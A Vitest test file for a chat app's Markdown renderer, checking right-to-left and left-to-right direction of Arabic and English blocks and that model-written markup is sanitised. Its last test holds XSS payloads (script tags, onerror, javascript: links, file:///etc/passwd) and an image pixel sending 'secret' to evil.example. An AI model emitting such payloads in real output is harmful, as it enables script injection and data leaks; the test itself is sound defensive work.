// @vitest-environment happy-dom
/** Which way the blocks of an answer are written, while it streams and when it has ended. */
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import Markdown from '@/renderer/features/chat/markdown/Markdown';
import { AppContext } from '@/renderer/state/useApp';
import { TooltipProvider } from '@/renderer/ui/Tooltip';
import { openWindow } from '@/test/fixtures/renderer/window';

const arabic = 'المفتاح الأزرق في الخزانة.';
const english = 'The blue key is in the cupboard.';
const answer = [
  `## ${arabic}`,
  arabic,
  english,
  `- ${arabic}\n- ${english}`,
  `> ${arabic}`,
  `| ${arabic} | ${english} |\n| --- | --- |\n| ${arabic} | ${english} |`,
  `R \`print()\` ${arabic}`,
  '```js\nconst key = "المفتاح";\n```',
].join('\n\n');

/** The tags of a text with the directions that stand around it, the innermost last. */
function directions(html: string): [tag: string, dir: string | null][] {
  const found: [string, string | null][] = [];
  const open: (string | null)[] = [];
  for (const [, end, tag = '', attributes = ''] of html.matchAll(/<(\/?)(\w+)([^>]*)>/g)) {
    if (end) open.pop();
    else if (!attributes.endsWith('/')) {
      const own = /\sdir="(\w+)"/.exec(attributes)?.[1] ?? null;
      open.push(own ?? open.at(-1) ?? null);
      found.push([tag, open.at(-1) ?? null]);
    }
  }
  return found;
}

/** The directions of a rendered answer, of every tag. */
function render(text: string, streaming: boolean) {
  const html = renderToStaticMarkup(
    <TooltipProvider>
      <Markdown text={text} streaming={streaming} documents={[]} />
    </TooltipProvider>,
  );
  const all = directions(html);
  return (tag: string) => all.flatMap(([name, dir]) => (name === tag ? [dir] : []));
}

describe.each([true, false])('an answer, streaming: %s', (streaming) => {
  const of = (text: string, tag: string) => render(text, streaming)(tag);

  it('has each block by its own letters', () => {
    expect(of(arabic, 'p')).toEqual(['rtl']);
    expect(of(`${arabic}\n\n${english}`, 'p')).toEqual(['rtl', 'ltr']);
    expect(of(`## ${arabic}`, 'h2')).toEqual(['rtl']);
    expect(of(`> ${arabic}`, 'blockquote')).toEqual(['rtl']);
    expect(of(`1. ${arabic}`, 'li')).toEqual(['rtl']);
    // an English name at the beginning turns no Arabic sentence round
    expect(of(`R ${arabic}`, 'p')).toEqual(['rtl']);
  });

  it('keeps code from left to right', () => {
    expect(of(answer, 'figure')).toEqual(['ltr']);
    expect(of(answer, 'pre')).toEqual(['ltr']);
    expect(of(answer, 'code')).toEqual(['ltr', 'ltr']);
  });
});

describe('what a model writes', () => {
  it('is never markup: no element, no image and no address but https', async () => {
    const written = [
      '<script>alert(1)</script> <img src=x onerror=alert(1)> <iframe src="https://evil.example"></iframe>',
      '![pixel](https://evil.example/p.png?words=secret)',
      '[a](javascript:alert(1)) [b](data:text/html,x) [c](http://evil.example) [d](file:///etc/passwd) [e](app://x)',
      '<a href="javascript:alert(1)">f</a> [g](https://example.com/) <https://example.com/h>',
    ].join('\n\n');
    const { app } = await openWindow({ start: false });
    const html = renderToStaticMarkup(
      <AppContext value={app}>
        <Markdown text={written} streaming={false} documents={[]} />
      </AppContext>,
    );
    for (const tag of ['script', 'img', 'iframe']) expect(html).not.toContain(`<${tag}`);
    expect([...html.matchAll(/\s(?:href|src)="([^"]*)"/g)].map(([, address]) => address)).toEqual([
      ...['https://example.com/', 'https://example.com/h'],
    ]);
    expect(html).not.toMatch(/<[^>]*\son\w+=/);
  });
});
